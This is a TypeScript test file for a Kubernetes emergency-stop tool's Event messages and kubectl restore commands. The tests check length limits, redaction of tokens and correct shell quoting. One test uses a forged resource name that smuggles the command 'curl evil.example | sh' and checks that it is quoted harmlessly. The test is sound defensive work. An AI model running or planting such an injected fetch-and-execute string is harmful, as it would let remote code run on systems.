import fc from 'fast-check';
import t from 'tap';
import type { Target } from '../../../src/core/target.ts';
import { eventMessage } from '../../../src/core/text/event-message.ts';
import { restoreCommand } from '../../../src/core/text/restore-command.ts';
import { trip } from '../../telemetry/support.ts';

const target: Target = { kind: 'Deployment', namespace: 'sre', name: 'swype-app' };

t.test('the Event says what was stopped, why, the newest line, and how to restore', (t) => {
  t.equal(
    eventMessage('swype-app', target, trip),
    'Big red button swype-app, tripped by alert BigRedButtonStop, holds deployment/swype-app in sre at 0 replicas. ' +
      'Container app of pod swype-app-1 was restarted 4 times by network failures within 30 min; the limit is 3. Cause: network. ' +
      'Last line: "Error: connect ECONNREFUSED 10.0.0.7:443" ' +
      'See it at /api/v1/buttons/swype-app. To release it, reset trip 0190a2b4 there. ' +
      'Then, to restore: kubectl scale deployment/swype-app --namespace sre --replicas 3',
  );
  t.end();
});

t.test('a trip without a line has no empty quote', (t) => {
  t.notMatch(eventMessage('swype-app', target, { ...trip, lines: [] }), /Last line|""| {2}/);
  t.end();
});

t.test('long texts are cut to at most 1,024 bytes, but the restore command is complete', (t) => {
  const text = fc.string({ unit: fc.constantFrom('a', 'ü', '語', '🛑', ' ', '"'), maxLength: 3_000 });
  fc.assert(
    fc.property(text, text, text, (because, quoted, alertname) => {
      const by = { trigger: 'alert', alertname, fingerprint: 'f', startsAt: trip.at } as const;
      const message = eventMessage('swype-app', target, { ...trip, by, because, lines: [quoted] });
      return (
        Buffer.byteLength(message) <= 1_024 &&
        !message.includes('\uFFFD') &&
        message.includes('reset trip 0190a2b4') &&
        message.endsWith(restoreCommand(target, 3))
      );
    }),
  );
  t.end();
});

t.test('a long line leaves room for the reason, and a long reason leaves room for the line', (t) => {
  const long = 'x'.repeat(3_000);
  t.match(
    eventMessage('swype-app', target, { ...trip, lines: [long] }),
    `${trip.because} Cause: network. Last line: "xxx`,
  );
  t.match(eventMessage('swype-app', target, { ...trip, because: long }), 'Last line: "Error: connect ECONNREFUSED');
  t.end();
});

t.test('the longest names of Kubernetes give a message within the limit', (t) => {
  const longest: Target = { kind: 'StatefulSet', namespace: 'n'.repeat(63), name: 'w'.repeat(253) };
  const message = eventMessage('b'.repeat(63), longest, { ...trip, because: 'x'.repeat(2_000) });
  t.ok(Buffer.byteLength(message) <= 1_024);
  t.end();
});

t.test('no token reaches the Event', (t) => {
  const message = eventMessage('swype-app', target, {
    ...trip,
    lines: ['GET /?token=abc123 Authorization: Bearer s3cret'],
  });
  t.notMatch(message, /abc123|s3cret/);
  t.end();
});

t.test('the restore command names kind, name, namespace and the replicas before the trip', (t) => {
  t.equal(restoreCommand(target, 3), 'kubectl scale deployment/swype-app --namespace sre --replicas 3');
  t.equal(
    restoreCommand({ kind: 'StatefulSet', namespace: 'shop', name: 'queue' }, 2),
    'kubectl scale statefulset/queue --namespace shop --replicas 2',
  );
  t.end();
});

t.test('if the replicas before the trip are unknown, the restore command needs a number', (t) => {
  t.equal(restoreCommand(target, 'unknown'), 'kubectl scale deployment/swype-app --namespace sre --replicas <N>');
  t.end();
});

t.test('a name that a person wrote into the latch by hand is one word in the restore command', (t) => {
  const forged = { ...target, name: "x; curl evil.example | sh '" };
  t.equal(
    restoreCommand(forged, 3),
    "kubectl scale 'deployment/x; curl evil.example | sh '\\''' --namespace sre --replicas 3",
  );
  t.end();
});
